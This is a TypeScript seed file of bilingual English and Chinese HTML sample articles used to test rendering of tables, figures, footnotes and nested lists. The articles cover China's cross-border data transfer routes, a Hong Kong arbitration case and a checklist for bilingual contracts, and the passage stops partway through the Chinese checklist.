import { handbookSeed } from './showcase-handbook';
import type { ArticleSeed } from './types';

/** N-0102: nine columns, two header rows, row and column spans, several bodies, a foot and a caption. */
const tableEnglish = `<p>Since March 2024 the question “how do we send this data abroad?” has had more than one good answer. There are three procedures, five exemptions and, in a growing number of free trade zones, lists that go further. The table below sets them side by side. It is meant to be kept next to a map of your own transfers, and read from left to right.</p>
<h2>How to read the table</h2>
<p>Count people, not records, and count from 1 January of the current year. Leave out of the count whatever is covered by an exemption. Look at each recipient and each purpose separately when you ask whether a transfer is <em>necessary</em>, but add them up when you ask whether a threshold has been reached. Remote access from abroad is a transfer.</p>
<h2>The routes side by side</h2>
<table>
<caption>Table 1. Routes for sending data out of mainland China, position in October 2026</caption>
<colgroup span="2"></colgroup>
<colgroup span="2"></colgroup>
<colgroup span="3"></colgroup>
<colgroup span="2"></colgroup>
<thead>
<tr>
<th scope="col" rowspan="2">Group</th>
<th scope="col" rowspan="2">Route</th>
<th scope="colgroup" colspan="2">When it applies</th>
<th scope="colgroup" colspan="3">Procedure</th>
<th scope="colgroup" colspan="2">Afterwards</th>
</tr>
<tr>
<th scope="col">Ordinary personal information</th>
<th scope="col">Sensitive personal information</th>
<th scope="col">Authority</th>
<th scope="col">Core documents</th>
<th scope="col">Time</th>
<th scope="col">Validity</th>
<th scope="col">Continuing duties</th>
</tr>
</thead>
<tbody>
<tr>
<th scope="rowgroup" rowspan="2">Full procedure</th>
<th scope="row">Security assessment by volume</th>
<td>One million people or more in the year</td>
<td>10,000 people or more in the year</td>
<td rowspan="2">Cyberspace Administration of China, through its provincial office</td>
<td rowspan="2">Application, self-assessment of risk, legal document with the recipient</td>
<td rowspan="2">5 working days for completeness, 7 for acceptance, 45 for the assessment; may be extended</td>
<td rowspan="2">Three years; extension to be requested 60 working days before the end</td>
<td rowspan="2">New application if purpose, kind, recipient or legal setting changes</td>
</tr>
<tr>
<th scope="row">Security assessment by kind</th>
<td colspan="2">Important data in any volume; personal information of any volume if the exporter operates critical information infrastructure</td>
</tr>
</tbody>
<tbody>
<tr>
<th scope="rowgroup" rowspan="2">Lighter procedure</th>
<th scope="row">Standard contract</th>
<td rowspan="2">100,000 to fewer than one million people</td>
<td rowspan="2">Any number up to fewer than 10,000 people</td>
<td>Provincial cyberspace administration</td>
<td>Contract in the official wording, impact assessment</td>
<td>Filing within 10 working days of effect; review in about 15</td>
<td>As long as the contract</td>
<td>Supplement or re-sign and file again upon material change</td>
</tr>
<tr>
<th scope="row">Certification</th>
<td>Accredited certification body</td>
<td>Application, binding rules or contract, impact assessment</td>
<td>As agreed with the body, commonly three to six months</td>
<td>Three years</td>
<td>Surveillance audits; certificate can be suspended or withdrawn</td>
</tr>
</tbody>
<tbody>
<tr>
<th scope="rowgroup" rowspan="5">Exempt</th>
<th scope="row">Small volume</th>
<td>Fewer than 100,000 people in the year</td>
<td>None at all</td>
<td colspan="3" rowspan="5">No application, filing or certificate. Keep a short note for each transfer: which exemption, why it applies, who decided, when it will be looked at again.</td>
<td rowspan="5">As long as the facts remain the same</td>
<td rowspan="5">Notice, consent where consent is the basis, impact assessment, security, records</td>
</tr>
<tr>
<th scope="row">Contract with the individual</th>
<td colspan="2">What is necessary for cross-border shopping, parcels, payments, account opening, flights, hotels, visas, examinations and the like</td>
</tr>
<tr>
<th scope="row">Employees</th>
<td colspan="2">What is necessary for managing staff across borders under lawfully adopted rules or a collective contract</td>
</tr>
<tr>
<th scope="row">Emergency</th>
<td colspan="2">Protection of life, health and property</td>
</tr>
<tr>
<th scope="row">Transit</th>
<td colspan="2">Data collected abroad, processed in China without adding domestic personal information or important data, and sent out again</td>
</tr>
</tbody>
<tbody>
<tr>
<th scope="rowgroup">Free trade zones</th>
<th scope="row">Negative list</th>
<td colspan="2">For companies of the zone: what is not on the list may leave freely; for what is on it the list names the procedure</td>
<td>Administration of the zone, provincial cyberspace administration</td>
<td>Filing or notice under the zone’s rules</td>
<td>Set by each zone</td>
<td>Until the list is revised</td>
<td>Link with the zone must be real; follow each new edition</td>
</tr>
</tbody>
<tfoot>
<tr>
<td colspan="9">Volumes are cumulative from 1 January of the current year and exclude transfers under an exemption. For operators of critical information infrastructure the small-volume exemption does not apply.</td>
</tr>
</tfoot>
</table>
<h2>Five questions before choosing</h2>
<ol>
<li><strong>Is it important data?</strong> Not unless a department or region has told you so or has published a list that names it. Ask whether your sector has one, and write down the answer with its date.</li>
<li><strong>Is it personal information at all?</strong> Figures without people, and truly anonymised data, may leave under general rules. Pseudonyms do not make data anonymous.</li>
<li><strong>Would the service fail without the transfer?</strong> This is the test for the contract exemption. A hotel abroad needs the name of the guest; the group’s marketing department does not.</li>
<li><strong>How many people will it be by December?</strong> Thresholds are often crossed in November, during the sales season, when no one is watching.</li>
<li><strong>Who will answer the regulator?</strong> Every route needs a person in China with a telephone and the file.</li>
</ol>
<h2>A worked example</h2>
<p>A sportswear company has 4 million members and 2,100 employees in China. It sends orders for personalised shoes to a workshop in Portugal (60,000 people a year), staff data to a personnel system in Denmark, complaints to a service centre in Manila (130,000 people), and medical certificates of injured runners to an insurer in Zurich (900 people).</p>
<table>
<caption>Table 2. The transfers of the example and their routes</caption>
<thead>
<tr>
<th scope="col">Transfer</th>
<th scope="col">People a year</th>
<th scope="col">Route</th>
<th scope="col">Why</th>
</tr>
</thead>
<tbody>
<tr>
<th scope="row">Personalised shoes</th>
<td>60,000</td>
<td>Exempt</td>
<td>Necessary for the contract with the buyer</td>
</tr>
<tr>
<th scope="row">Personnel system</th>
<td>2,100</td>
<td>Exempt</td>
<td>Staff handbook adopted in due form</td>
</tr>
<tr>
<th scope="row">Complaints</th>
<td>130,000</td>
<td rowspan="2">One standard contract for each recipient</td>
<td>Over 100,000, no exemption</td>
</tr>
<tr>
<th scope="row">Medical certificates</th>
<td>900</td>
<td>Sensitive, fewer than 10,000</td>
</tr>
</tbody>
</table>
<p>Had the complaints been answered in China, the small-volume exemption would have covered the rest of the ordinary data, and only the medical certificates would have needed a contract. Often the cheapest route is a shorter one.</p>
<h2>Common mistakes</h2>
<ul>
<li>Treating an exemption from the procedure as an exemption from the law.</li>
<li>Using the exemption for employees on the strength of a handbook that was never discussed with them.</li>
<li>Forgetting that support engineers abroad who can open a database are recipients.</li>
<li>Letting a security assessment run out: the request for extension is due 60 working days, nearly three months, before the end.</li>
</ul>
<p>We shall keep the table up to date. If your transfers do not fit into it, that is usually a sign that they should be drawn again rather than that the law has a gap.</p>`;

const tableChinese = `<p>自2024年3月以来，“数据如何合规出境”不再只有一种答案：三条法定路径、五类豁免情形，以及越来越多自由贸易试验区发布的数据出境负面清单。下表将其并列呈现，建议对照本企业的数据出境清单，自左向右逐项查阅。</p>
<h2>如何使用本表</h2>
<p>人数按自然人去重计算，自当年1月1日起累计；适用豁免情形的部分不计入。判断是否“确需”时，应区分接收方与目的逐项审视；判断是否达到数量标准时，则须合并计算。境外人员远程访问境内存储的数据，同样属于向境外提供。</p>
<h2>各路径对照</h2>
<table>
<caption>表1：数据出境路径对照表（截至2026年10月）</caption>
<colgroup span="2"></colgroup>
<colgroup span="2"></colgroup>
<colgroup span="3"></colgroup>
<colgroup span="2"></colgroup>
<thead>
<tr>
<th scope="col" rowspan="2">类别</th>
<th scope="col" rowspan="2">路径</th>
<th scope="colgroup" colspan="2">适用情形</th>
<th scope="colgroup" colspan="3">办理程序</th>
<th scope="colgroup" colspan="2">后续管理</th>
</tr>
<tr>
<th scope="col">一般个人信息</th>
<th scope="col">敏感个人信息</th>
<th scope="col">主管机构</th>
<th scope="col">主要材料</th>
<th scope="col">办理时限</th>
<th scope="col">有效期</th>
<th scope="col">持续义务</th>
</tr>
</thead>
<tbody>
<tr>
<th scope="rowgroup" rowspan="2">申报评估</th>
<th scope="row">安全评估（数量触发）</th>
<td>当年累计100万人以上</td>
<td>当年累计1万人以上</td>
<td rowspan="2">通过省级网信部门报国家网信部门</td>
<td rowspan="2">申报书、风险自评估报告、与境外接收方订立的法律文件</td>
<td rowspan="2">完备性查验5个工作日，受理7个工作日，评估45个工作日，可适当延长</td>
<td rowspan="2">3年；届满前60个工作日内可申请延长</td>
<td rowspan="2">目的、种类、接收方或者法律环境等发生变化的，重新申报</td>
</tr>
<tr>
<th scope="row">安全评估（类型触发）</th>
<td colspan="2">任何数量的重要数据；关键信息基础设施运营者向境外提供任何数量的个人信息</td>
</tr>
</tbody>
<tbody>
<tr>
<th scope="rowgroup" rowspan="2">备案或者认证</th>
<th scope="row">标准合同</th>
<td rowspan="2">10万人以上、不满100万人</td>
<td rowspan="2">不满1万人</td>
<td>省级网信部门</td>
<td>标准合同、个人信息保护影响评估报告</td>
<td>合同生效之日起10个工作日内备案，查验约15个工作日</td>
<td>与合同期限一致</td>
<td>发生重大变化的，补充或者重新订立合同并备案</td>
</tr>
<tr>
<th scope="row">保护认证</th>
<td>取得资质的专业认证机构</td>
<td>认证申请、具有约束力的协议或者规则、影响评估报告</td>
<td>依机构约定，通常三至六个月</td>
<td>3年</td>
<td>获证后监督，证书可被暂停或者撤销</td>
</tr>
</tbody>
<tbody>
<tr>
<th scope="rowgroup" rowspan="5">豁免</th>
<th scope="row">小规模出境</th>
<td>当年累计不满10万人</td>
<td>不得包含</td>
<td colspan="3" rowspan="5">无须申报、备案或者认证。建议就每项出境活动留存简要记录：适用何种豁免、理由、决定人及下次复核时间。</td>
<td rowspan="5">事实不变期间持续适用</td>
<td rowspan="5">告知、基于同意的取得同意、影响评估、安全保障与留存记录</td>
</tr>
<tr>
<th scope="row">履行个人合同</th>
<td colspan="2">跨境购物、寄递、汇款、支付、开户、机票酒店预订、签证办理、考试服务等所必需</td>
</tr>
<tr>
<th scope="row">人力资源管理</th>
<td colspan="2">依法制定的劳动规章制度或者依法签订的集体合同项下，跨境人力资源管理所必需的员工信息</td>
</tr>
<tr>
<th scope="row">紧急情况</th>
<td colspan="2">为保护自然人生命健康和财产安全</td>
</tr>
<tr>
<th scope="row">过境数据</th>
<td colspan="2">境外收集的个人信息传输至境内处理后再出境，且未引入境内个人信息或者重要数据</td>
</tr>
</tbody>
<tbody>
<tr>
<th scope="rowgroup">自由贸易试验区</th>
<th scope="row">负面清单</th>
<td colspan="2">区内企业：清单外数据自由出境；清单内数据依清单所列程序办理</td>
<td>自贸区管理机构、省级网信部门</td>
<td>依各区规则备案或者告知</td>
<td>各区自定</td>
<td>至清单修订为止</td>
<td>须与自贸区有真实关联，并跟踪清单更新</td>
</tr>
</tbody>
<tfoot>
<tr>
<td colspan="9">数量自当年1月1日起累计，不含适用豁免情形的部分。关键信息基础设施运营者不适用小规模出境豁免。</td>
</tr>
</tfoot>
</table>
<h2>选择路径前的五个问题</h2>
<ol>
<li><strong>是否属于重要数据？</strong>未被相关部门、地区告知或者公开发布为重要数据的，无须作为重要数据申报；应当查明所在行业有无目录并留存查询日期。</li>
<li><strong>是否属于个人信息？</strong>统计数据与真正匿名化的数据不受上述限制，但去标识化不等于匿名化。</li>
<li><strong>缺少该项传输，服务能否完成？</strong>境外酒店需要住客姓名，集团市场部则未必。</li>
<li><strong>到年底将累计多少人？</strong>促销季往往是越过门槛的时点。</li>
<li><strong>谁来答复监管？</strong>每一条路径都需要一位在境内、熟悉材料的联系人。</li>
</ol>
<h2>示例</h2>
<p>某运动服饰企业在境内有会员400万人、员工2100人。其定制鞋订单传至葡萄牙工坊（年6万人），员工信息传至丹麦人事系统，投诉记录传至马尼拉客服中心（年13万人），受伤跑者的医疗证明传至苏黎世保险公司（年900人）。</p>
<table>
<caption>表2：示例企业的出境活动及适用路径</caption>
<thead>
<tr>
<th scope="col">出境活动</th>
<th scope="col">年人数</th>
<th scope="col">路径</th>
<th scope="col">理由</th>
</tr>
</thead>
<tbody>
<tr>
<th scope="row">定制鞋订单</th>
<td>60,000</td>
<td>豁免</td>
<td>履行与个人的合同所必需</td>
</tr>
<tr>
<th scope="row">人事系统</th>
<td>2,100</td>
<td>豁免</td>
<td>劳动规章制度已依法制定</td>
</tr>
<tr>
<th scope="row">投诉记录</th>
<td>130,000</td>
<td rowspan="2">分别与各接收方订立标准合同并备案</td>
<td>超过10万人且无豁免情形</td>
</tr>
<tr>
<th scope="row">医疗证明</th>
<td>900</td>
<td>敏感个人信息，不满1万人</td>
</tr>
</tbody>
</table>
<p>若投诉改由境内处理，其余一般个人信息即可适用小规模豁免，仅医疗证明需要订立标准合同。最经济的路径，往往是更短的那一条。</p>
<h2>常见误区</h2>
<ul>
<li>将程序豁免误认为法律义务的全部豁免；</li>
<li>以未经民主程序制定的员工手册主张人力资源管理豁免；</li>
<li>忽略境外运维人员的远程访问；</li>
<li>错过安全评估有效期的延长申请时点。</li>
</ul>
<p>本表将持续更新。若贵司的数据流无法归入上表，多半意味着数据流应当重新梳理，而非法律存在空白。</p>`;

/** N-0103: six figures of different widths, three of them in a row, and footnotes with links both ways. */
const figuresEnglish = `<p>People who have never been through an international arbitration imagine either a small court or a long meeting. It is neither. The six pictures below follow one case, an ordinary claim of about EUR 30 million between a pump maker and its Chinese distributor, seated in Hong Kong, from the day the notice was sent to the day the money arrived. The names have been changed and the figures rounded; the order of events is as it was.</p>
<h2>The whole at a glance</h2>
<p>From notice to award the case took seventeen months.<sup><a href="#fn1" id="fnref1">1</a></sup> That is close to the average that institutions report, and it was not evenly spread: nothing visible happened in the first three months, and half of all the pages were written in the last five.</p>
<figure style="width: 100%">
<img src="/files/seed/figure-1.webp" alt="Diagram of the stages of an arbitration in a row, from notice to enforcement" width="1200" height="800">
<figcaption>Figure 1. The seven stages: notice, answer, tribunal, timetable, written phase, hearing, award. Enforcement is a stage of its own, and begins in the first week.</figcaption>
</figure>
<p>The most important decision fell before the first stage. The distributor had warehouses in Ningbo and little else, so we applied for preservation of assets on the mainland in the same week as we sent the notice.<sup><a href="#fn2" id="fnref2">2</a></sup> Everything that followed was negotiated in the knowledge that there was something to be won.</p>
<h2>Where the money goes</h2>
<figure style="width: 55%">
<img src="/files/seed/figure-2.webp" alt="Bar chart of the shares of cost in the case, party costs by far the longest bar" width="600" height="400">
<figcaption>Figure 2. Shares of cost. The parties’ own costs are the longest bar by far.</figcaption>
</figure>
<p>Clients look first at the fees of institution and tribunal, and are surprised that these came to a sixth of the total. The largest part is the parties’ own work: lawyers, experts, and the time of people in the business, which appears on no invoice. Three measures kept it in bounds here. Documents were requested by category and only once. Each side had one expert on quantum, and the two wrote a joint list of what they agreed on. And the tribunal decided at the outset whether the contract had been validly terminated, since the answer would make half the evidence unnecessary.</p>
<h2>The hearing</h2>
<p>Five days, in a building one forgets at once. What one remembers are the rooms.</p>
<div>
<figure style="display: inline-block; width: 32%">
<img src="/files/seed/environment-1.webp" alt="Line drawing of a bright hall with columns" width="600" height="400">
<figcaption>Figure 3. The hearing room, half an hour before the opening.</figcaption>
</figure>
<figure style="display: inline-block; width: 32%">
<img src="/files/seed/environment-2.webp" alt="Line drawing of a quiet room in an office building" width="600" height="400">
<figcaption>Figure 4. The breakout room: two printers, forty files, one kettle.</figcaption>
</figure>
<figure style="display: inline-block; width: 32%">
<img src="/files/seed/figure-3.webp" alt="Diagram showing how the people in a hearing room relate to one another" width="600" height="400">
<figcaption>Figure 5. Who sits where, and who speaks to whom.</figcaption>
</figure>
</div>
<p>Each side had the same number of minutes, kept by a chess clock. Witnesses were heard in Mandarin and English with simultaneous interpretation, which costs about a third more time than one language and should be planned for.<sup><a href="#fn3" id="fnref3">3</a></sup> The turning point came on the third day and took four minutes. Asked when he had first learned of the defect, the distributor’s head of service named a date, and the date stood in an e-mail that both sides had overlooked for a year.</p>
<blockquote>
<p>“A hearing seldom decides a case. It decides which of the documents everyone has already read is the one that matters.”</p>
</blockquote>
<h2>The award, and after</h2>
<p>The award came four months after the hearing: EUR 21 million, interest, and seventy per cent of the costs. An award made in Hong Kong is enforced on the mainland under an arrangement between the two jurisdictions, on grounds that follow those of the New York Convention.<sup><a href="#fn4" id="fnref4">4</a></sup> Here the court in Ningbo already held the preserved warehouses, and the distributor made an offer before the application was heard.</p>
<figure style="width: 80%">
<img src="/files/seed/figure-4.webp" alt="Timeline of the case with the main dates marked from left to right" width="900" height="600">
<figcaption>Figure 6. The case on one line. Preservation (week 1) and payment (week 79) belong together: without the one there would hardly have been the other.</figcaption>
</figure>
<p>What can be learned from a single case? That the arbitration clause, eleven words long, was good.<sup><a href="#fn5" id="fnref5">5</a></sup> That the first week is worth more than any later one. And that the person who knows where an e-mail is deserves a seat near the front.</p>
<hr>
<h2>Notes</h2>
<ol>
<li id="fn1">Measured from receipt of the notice by the institution. The time needed for enforcement is not included. <a href="#fnref1" aria-label="Back to the text, note 1">↩</a></li>
<li id="fn2">Under the arrangement between the mainland and Hong Kong on interim measures in aid of arbitration, in force since 1 October 2019. <a href="#fnref2" aria-label="Back to the text, note 2">↩</a></li>
<li id="fn3">Consecutive interpretation nearly doubles the time. Whichever is chosen, give the interpreters the bundle and a glossary a week beforehand. <a href="#fnref3" aria-label="Back to the text, note 3">↩</a></li>
<li id="fn4">Arrangement of 1999, with a supplement of 2020, which among other things allows applications in both places at the same time. <a href="#fnref4" aria-label="Back to the text, note 4">↩</a></li>
<li id="fn5">“Any dispute shall be finally settled by arbitration in Hong Kong”, followed by the name of the institution, the number of arbitrators and the language. <a href="#fnref5" aria-label="Back to the text, note 5">↩</a></li>
</ol>`;

const figuresChinese = `<p>未亲历过国际仲裁的人，常将其想象为一个小型法庭，或是一场漫长的会议。实则两者皆非。本文以六幅图片讲述一起普通案件的始末：一家水泵制造商与其中国经销商之间约3000万欧元的争议，仲裁地为香港，自递交仲裁通知起，至款项到账止。当事人名称已作处理，数字取整，事件先后与实际一致。</p>
<h2>全景</h2>
<p>从递交通知到作出裁决，历时十七个月。<sup><a href="#fn1" id="fnref1">1</a></sup>这与各仲裁机构公布的平均用时相近，但节奏并不均匀：前三个月看似风平浪静，而全案一半的文字写于最后五个月。</p>
<figure style="width: 100%">
<img src="/files/seed/figure-1.webp" alt="仲裁各阶段自左向右排列的示意图，由仲裁通知至裁决执行" width="1200" height="800">
<figcaption>图1：七个阶段，即通知、答复、组庭、程序日程、书面程序、开庭与裁决。执行自成一个阶段，且从第一周就已开始。</figcaption>
</figure>
<p>最关键的决定发生在第一阶段之前。经销商除宁波的仓库外几无财产，因此在递交仲裁通知的同一周，我们即在内地申请了财产保全。<sup><a href="#fn2" id="fnref2">2</a></sup>此后的一切交涉，都建立在“胜诉有所得”的前提之上。</p>
<h2>费用花在何处</h2>
<figure style="width: 55%">
<img src="/files/seed/figure-2.webp" alt="案件费用构成条形图，其中当事人自身费用的条形最长" width="600" height="400">
<figcaption>图2：费用构成。当事人自身费用占比远高于其他各项。</figcaption>
</figure>
<p>客户最先关注的往往是机构管理费与仲裁员报酬，得知二者仅占总额六分之一时常感意外。真正的大头是当事人自身的投入：律师、专家，以及不会出现在任何账单上的业务人员时间。本案以三项措施控制成本：文件披露按类别、仅一轮；双方各聘一位损失量化专家，并共同出具无争议事项清单；仲裁庭先行裁断合同是否有效解除，由此省去近半证据。</p>
<h2>开庭</h2>
<p>五天的庭审，在一栋令人过目即忘的楼里。令人难忘的，是那些房间。</p>
<div>
<figure style="display: inline-block; width: 32%">
<img src="/files/seed/environment-1.webp" alt="线描：明亮的柱廊大厅" width="600" height="400">
<figcaption>图3：开庭前半小时的庭审室。</figcaption>
</figure>
<figure style="display: inline-block; width: 32%">
<img src="/files/seed/environment-2.webp" alt="线描：办公楼中安静的房间" width="600" height="400">
<figcaption>图4：休息室内，两台打印机、四十册卷宗、一只水壶。</figcaption>
</figure>
<figure style="display: inline-block; width: 32%">
<img src="/files/seed/figure-3.webp" alt="庭审室内各方人员关系示意图" width="600" height="400">
<figcaption>图5：谁坐何处，谁向谁陈述。</figcaption>
</figure>
</div>
<p>双方发言时间均等，以“棋钟”计时。证人以普通话或英语作证并配同声传译，用时约比单一语言多三分之一，应在日程中预留。<sup><a href="#fn3" id="fnref3">3</a></sup>转折发生在第三天，前后不过四分钟：经销商的服务主管被问及何时首次知悉缺陷，他说出一个日期，而该日期恰好载于双方一年来均未留意的一封邮件。</p>
<blockquote>
<p>“庭审很少决定案件的胜负，它决定的是：在人人都已读过的文件中，究竟哪一份最为关键。”</p>
</blockquote>
<h2>裁决及其后</h2>
<p>裁决于庭审结束四个月后作出：支付2100万欧元及利息，并承担七成费用。香港仲裁裁决依据两地相互执行仲裁裁决的安排在内地执行，拒绝执行的理由与《纽约公约》大体一致。<sup><a href="#fn4" id="fnref4">4</a></sup>本案中，宁波法院早已查封仓库，经销商在法院审查执行申请之前即提出和解方案。</p>
<figure style="width: 80%">
<img src="/files/seed/figure-4.webp" alt="案件时间轴，自左向右标注主要日期" width="900" height="600">
<figcaption>图6：一条时间轴上的全案。第1周的保全与第79周的付款首尾呼应，没有前者，便很难有后者。</figcaption>
</figure>
<p>一个案件能带来什么启示？其一，那条短短一句话的仲裁条款写得很好。<sup><a href="#fn5" id="fnref5">5</a></sup>其二，第一周比此后任何一周都更有价值。其三，知道那封邮件在哪里的人，理应坐得靠前一些。</p>
<hr>
<h2>注释</h2>
<ol>
<li id="fn1">自仲裁机构收到仲裁通知之日起算，不含执行用时。<a href="#fnref1" aria-label="返回正文，注1">↩</a></li>
<li id="fn2">依据《关于内地与香港特别行政区法院就仲裁程序相互协助保全的安排》，该安排自2019年10月1日起生效。<a href="#fnref2" aria-label="返回正文，注2">↩</a></li>
<li id="fn3">交替传译用时几乎加倍。无论采用何种方式，均应至少提前一周向译员提供案卷与术语表。<a href="#fnref3" aria-label="返回正文，注3">↩</a></li>
<li id="fn4">1999年《关于内地与香港特别行政区相互执行仲裁裁决的安排》及2020年补充安排，后者允许当事人同时向两地法院申请执行。<a href="#fnref4" aria-label="返回正文，注4">↩</a></li>
<li id="fn5">该条款约定“因本合同产生的任何争议均应提交仲裁最终解决，仲裁地为香港”，其后依次载明仲裁机构、仲裁员人数与仲裁语言。<a href="#fnref5" aria-label="返回正文，注5">↩</a></li>
</ol>`;

/** N-0104: lists of three levels, definitions, preformatted clauses, unbreakable words, and each language inside the other. */
const listsEnglish = `<p>A bilingual contract is two contracts that hope to be one. This checklist collects what we look at when an English text and a Chinese text are to be signed together. It can be worked through in an afternoon, best by two people, one for each language, who read to each other aloud.</p>
<h2>Before the first draft</h2>
<ol>
<li>Decide which language governs.
<ul>
<li>If the contract is to be filed (articles, land, joint ventures), the authority will read only the Chinese.
<ol>
<li>Ask the registry for its template.</li>
<li>Mark the clauses that may not be changed.</li>
<li>Draft the English from the Chinese, not the other way round.</li>
</ol>
</li>
<li>If it is to be enforced abroad, think of the judge or arbitrator who will have to read it.
<ol>
<li>Court in the mainland: Chinese.</li>
<li>Arbitration: the language of the arbitration clause.</li>
</ol>
</li>
<li>“Both languages are equally authentic” is a clause for treaties between states.</li>
</ul>
</li>
<li>Agree on the defined terms before anything else.
<ul>
<li>One term in English, one in Chinese, and no synonyms.
<ol>
<li>Not <em>termination</em> for both <span lang="zh-CN">终止</span> and <span lang="zh-CN">解除</span>: the first ends a contract, however it comes about; the second is an act of a party that ends it early.</li>
<li>Not <span lang="zh-CN">定金</span> where <span lang="zh-CN">订金</span> is meant. They are pronounced alike. Whoever gave the first and defaults loses it; whoever took it and defaults returns it double. The second is merely paid in advance.</li>
<li>Not <span lang="zh-CN">权利</span> (a right) for <span lang="zh-CN">权力</span> (a power).</li>
</ol>
</li>
<li>Names of companies as on the business licence, with the unified social credit code.</li>
</ul>
</li>
<li>Fix how clauses are numbered, and keep the numbers the same in both texts.</li>
</ol>
<h2>Numbering</h2>
<p>References such as “clause 12.3(b)(iv)” must lead to the same place in both versions. We use the following pattern:</p>
<ul>
<li><strong>12</strong> clause, <span lang="zh-CN">第十二条</span>
<ul>
<li><strong>12.3</strong> sub-clause, <span lang="zh-CN">第12.3款</span>
<ul>
<li><strong>12.3(b)</strong> paragraph, <span lang="zh-CN">第12.3款第（b）项</span></li>
<li><strong>12.3(b)(iv)</strong> item, <span lang="zh-CN">第12.3款第（b）项第（iv）目</span></li>
</ul>
</li>
</ul>
</li>
</ul>
<p>In a file the same clause looks like this, and the comparison can be made by a machine:</p>
<pre><code>12      LIMITATION OF LIABILITY
12.1    Subject to clause 12.3, neither party is liable for loss of profit.
12.2    Each party’s total liability under or in connection with this contract
        does not exceed the amounts paid in the preceding twelve months.
12.3    Nothing in this contract limits liability for
        (a) death or personal injury;
        (b) loss of property caused
            (i)   intentionally, or
            (ii)  by gross negligence.</code></pre>
<p>The third sub-clause is not politeness. Article 506 of the Civil Code makes void a term that excludes liability for personal injury, or for property loss caused intentionally or by gross negligence.</p>
<h2>Words that look alike and are not</h2>
<dl>
<dt>Best efforts, <span lang="zh-CN">尽最大努力</span></dt>
<dd>In English law a demanding standard with a body of cases. In Chinese it is read as a general duty of good faith and diligence. Say what has to be done, and by when.</dd>
<dt>Indemnify, <span lang="zh-CN">赔偿</span> or <span lang="zh-CN">补偿</span></dt>
<dd>An indemnity does not depend on breach. <span lang="zh-CN">赔偿</span> suggests damages for breach; <span lang="zh-CN">补偿</span> a payment without fault. Neither carries the whole meaning: write it out.</dd>
<dt>Representations and warranties, <span lang="zh-CN">陈述与保证</span></dt>
<dd>The distinction of the common law is not known in the mainland. State the consequence of untruth. Remember that <span lang="zh-CN">保证</span> alone also means a guarantee for another’s debt.</dd>
<dt>Material, <span lang="zh-CN">重大</span></dt>
<dd>Give a number, or an example.</dd>
<dt>Day, <span lang="zh-CN">日</span></dt>
<dd>A working day in China may be a Sunday, when a long holiday is made up for. Define it by place.</dd>
</dl>
<h2>Addresses, long names and other things that break</h2>
<p>Notices now go by e-mail and web portals, and contracts carry addresses that no line can hold. Test whether yours can still be read when printed:</p>
<ul>
<li>Portal for notices: <a href="https://notices.example.com/projects/2026/joint-venture/suzhou-industrial-park/phase-2/documents/final-executed-version-with-all-annexes-and-schedules?language=zh-CN&amp;version=7&amp;signatory=harcourt-lin&amp;checksum=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08">https://notices.example.com/projects/2026/joint-venture/suzhou-industrial-park/phase-2/documents/final-executed-version-with-all-annexes-and-schedules?language=zh-CN&amp;version=7&amp;signatory=harcourt-lin&amp;checksum=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08</a></li>
<li>Fingerprint of the signed file: <code>9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a089f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08</code></li>
<li>The German shareholder’s authority: <em lang="de">Rindfleischetikettierungsüberwachungsaufgabenübertragungsgesetz</em>, section 4</li>
<li>The field in the registry’s form: <code>legalRepresentativeIdentityDocumentIssuingAuthorityAndDateOfExpiryInFourDigitYearFormat</code></li>
</ul>
<h2>On the day of signing</h2>
<ol>
<li>The parties
<ul>
<li>Chinese company
<ul>
<li>company seal (<span lang="zh-CN">公章</span>) or contract seal (<span lang="zh-CN">合同专用章</span>), checked against an earlier filing</li>
<li>signature of the legal representative (<span lang="zh-CN">法定代表人</span>), or of a person with a written power</li>
<li>seal across the edges of all pages (<span lang="zh-CN">骑缝章</span>)</li>
</ul>
</li>
<li>Foreign company
<ul>
<li>signature block with the capacity of the person signing</li>
<li>board minutes or power of attorney, with apostille if it is to be filed</li>
</ul>
</li>
</ul>
</li>
<li>The papers
<ul>
<li>number of originals in each language
<ol>
<li>one for each party</li>
<li>one for each authority</li>
<li>one spare, locked away</li>
</ol>
</li>
<li>both languages bound together, in two columns if possible</li>
</ul>
</li>
<li>The date: year, month, day, written out. 03/04/2026 is two different days.</li>
</ol>
<p>Finally, read the numbers. In our experience every third bilingual contract contains an amount that differs, mostly because <span lang="zh-CN">万</span> is ten thousand and <span lang="zh-CN">亿</span> a hundred million: RMB 1.2 billion is <span lang="zh-CN">人民币12亿元</span>, not <span lang="zh-CN">120亿元</span>.</p>`;

const listsChinese = `<p>双语合同其实是两份希望合而为一的合同。以下清单汇集了我们在中英文本并行签署时的核查要点，一个下午即可完成，最好由两人分持中、英文本，逐条对读。</p>
<h2>起草之前</h2>
<ol>
<li>确定以何种文本为准。
<ul>
<li>须向登记机关提交的文件（章程、土地、合资合同），主管部门仅审阅中文。
<ol>
<li>先取得登记机关的示范文本；</li>
<li>标注不得修改的条款；</li>
<li>由中文译为英文，而非相反。</li>
</ol>
</li>
<li>拟在境外执行的，应考虑将来由谁来阅读。
<ol>
<li>内地法院：中文；</li>
<li>仲裁：以仲裁条款约定的语言为准。</li>
</ol>
</li>
<li>“两种文本具有同等效力”（<span lang="en-US">both texts being equally authentic</span>）更适合国家之间的条约。</li>
</ul>
</li>
<li>先行统一定义术语。
<ul>
<li>一个概念对应一个中文词、一个英文词，避免同义混用。
<ol>
<li>“终止”与“解除”不宜一律译为 <span lang="en-US">termination</span>：前者泛指合同权利义务归于消灭，后者系当事人提前结束合同的行为，可分别译作 <span lang="en-US">expiry or termination</span> 与 <span lang="en-US">rescission or early termination</span>，并加以定义。</li>
<li>“定金”（<span lang="en-US">earnest money with forfeiture and double-return effect</span>）与“订金”（<span lang="en-US">advance payment</span>）同音而效力迥异。</li>
<li>“权利”（<span lang="en-US">right</span>）与“权力”（<span lang="en-US">power</span>）不可混用。</li>
</ol>
</li>
<li>公司名称以营业执照为准，并注明统一社会信用代码。</li>
</ul>
</li>
<li>确定条款编号规则，两种文本编号须完全一致。</li>
</ol>
<h2>条款编号</h2>
<p>“<span lang="en-US">clause 12.3(b)(iv)</span>”在两种文本中必须指向同一处。本所采用如下体例：</p>
<ul>
<li><strong>第十二条</strong>，即 <span lang="en-US">clause 12</span>
<ul>
